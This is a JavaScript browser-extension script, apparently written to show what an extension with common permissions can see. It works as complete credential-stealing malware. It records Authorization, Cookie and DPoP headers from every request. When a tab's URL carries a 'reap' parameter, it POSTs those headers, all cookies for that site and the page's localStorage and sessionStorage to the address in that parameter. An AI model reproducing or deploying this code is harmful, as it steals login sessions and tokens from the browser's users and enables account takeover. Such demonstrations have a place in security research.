// M3: what an extension with the usual permissions sees. It sends what it has seen of a site when that site's address says
// where to.
const api = globalThis.browser ?? globalThis.chrome;
const seen = [];
const headers = ({ url, requestHeaders }) => {
  for (const { name, value } of requestHeaders ?? []) {
    if (/^(authorization|cookie|dpop)$/i.test(name)) seen.push([new URL(url).origin, name.toLowerCase() === "cookie" ? "cookies" : "header", value]);
  }
};
const filter = { urls: ["<all_urls>"] };
try { api.webRequest.onSendHeaders.addListener(headers, filter, ["requestHeaders", "extraHeaders"]); }
catch { api.webRequest.onSendHeaders.addListener(headers, filter, ["requestHeaders"]); }
api.tabs.onUpdated.addListener(async (id, change, tab) => {
  const site = change.status === "complete" && tab.url ? new URL(tab.url) : null;
  const loot = site?.searchParams.get("reap");
  if (!loot) return;
  const send = (kind, value) => fetch(loot, { method: "POST", body: `${kind}:${value}` }).catch(() => {});
  for (const [origin, kind, value] of seen.splice(0)) if (origin === site.origin) await send(kind, value);
  for (const store of await api.cookies.getAllCookieStores()) {
    const all = await api.cookies.getAll({ storeId: store.id, domain: site.hostname });
    if (all.length) await send("cookies", all.map(({ name, value }) => `${name}=${value}`).join("; "));
  }
  try {
    const [{ result }] = await api.scripting.executeScript({ target: { tabId: id }, func: () => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]) });
    await send("storage", result);
  } catch (error) { await send("note", String(error)); }
  await send("done", "x");
});
